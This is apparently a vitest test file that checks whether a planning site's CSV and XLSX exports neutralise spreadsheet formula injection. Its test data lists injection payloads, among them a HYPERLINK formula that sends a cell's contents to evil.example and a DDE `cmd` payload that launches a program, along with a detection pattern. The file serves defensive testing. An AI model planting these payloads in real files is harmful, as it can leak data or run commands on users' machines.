import { strFromU8, unzipSync } from 'fflate'
import { beforeAll, expect, test } from 'vitest'
import { takeInReading } from '#domains/plan/actions/intake.ts'
import { decide, publish, submit } from '#domains/plan/actions/life.ts'
import { readFile } from '#domains/plan/intake/sources.ts'
import { emptyContent } from '#domains/plan/item.ts'
import { readCsv } from '#platform/csv.ts'
import { readWorkbook } from '#platform/spreadsheet.ts'
import { type Browser, browser } from '#testing/browser.ts'
import { people } from '#testing/people.ts'

const formulas = [
  '=1+1',
  `=HYPERLINK("http://evil.example/?"&A1,"開く")`,
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
]

const { author, head } = people
const [first = ''] = formulas
let site: Browser
let asked: readonly string[]
beforeAll(async () => {
  site = await browser('2012-03-05T10:00:00+09:00')
  const row = (title: string, i: number) => ({
    place: '',
    measure: { number: 1, title: first },
    group: { audience: null, text: first },
    code: `1-${i + 1}`,
    content: {
      ...emptyContent,
      lead: 'both' as const,
      title,
      description: title,
      departments: [title.replaceAll(/[、，,\n\r]/g, '')],
      citizenRole: title,
      articles: [title.replaceAll(/[、，,\n\r]/g, '')],
      indicators: [
        {
          name: title,
          unit: title.slice(0, 20),
          baseline: -1,
          target: -2.5,
          direction: 'down' as const,
        },
      ],
      translations: { en: { title } },
    },
  })
  const rows = formulas.map(row)
  const reading = { head: { title: '計画' }, rows, questions: [], faults: [] }
  const { plan } = await takeInReading(site.ctx(author), 2012, reading, {
    answers: {},
    removeMissing: false,
  })
  await submit(site.ctx(author), plan.id)
  await decide(site.ctx(head), plan.id)
  await publish(site.ctx(head), plan.id)
  asked = formulas
})

const bytes = async (path: string) => new Uint8Array(await (await site.get(path)).arrayBuffer())

test.each(['/plans/2012/plan.csv', '/desk/plans/2012/plan.csv'])(
  'no cell of %s begins as a formula does',
  async (path) => {
    await site.as(path.startsWith('/desk') ? author : people.resident)
    const text = new TextDecoder().decode(await bytes(path))
    // As a spreadsheet splits it, before anything is taken off again.
    const cells = [...text.slice(1).matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)]
    const risky = cells
      .map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '')
      .filter((cell) => /^[=+\-@＝＋－＠\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell))
    expect(risky).toEqual([])
    expect(text).toContain("'=1+1")
  },
)

test('numbers below nothing stay numbers', async () => {
  const { rows } = readCsv(await bytes('/plans/2012/plan.csv'))
  const [header, row] = rows
  const at = header?.cells.indexOf('指標1目標値') ?? -1
  expect(row?.cells[at]).toBe('-2.5')
})

test('a workbook holds texts and not one formula', async () => {
  await site.as(author)
  for (const path of [
    '/plans/2012/plan.xlsx',
    '/desk/plans/2012/plan.xlsx',
    '/desk/plans/template.xlsx',
  ]) {
    const book = await bytes(path)
    const parts = Object.entries(unzipSync(book)).filter(([name]) =>
      name.startsWith('xl/worksheets/sheet'),
    )
    for (const [name, part] of parts) expect(strFromU8(part), name).not.toMatch(/<f[ >]/)
    expect(Object.keys(unzipSync(book)).join()).not.toMatch(/vba|externalLink|connections/i)
  }
})

test('what went out comes back in as it was', async () => {
  const normal = (text: string) => text.replaceAll('\r', '\n').trim()
  for (const name of ['plan.csv', 'plan.xlsx']) {
    const { reading } = await readFile(name, await bytes(`/plans/2012/${name}`))
    expect(reading.faults).toEqual([])
    expect(reading.rows.map((row) => normal(row.content.title))).toEqual(asked.map(normal))
  }
  const cells = await readWorkbook(await bytes('/plans/2012/plan.xlsx'))
  expect(JSON.stringify(cells.map((s) => s.rows.map((r) => [...r.cells.values()])))).toContain(
    '=1+1',
  )
})
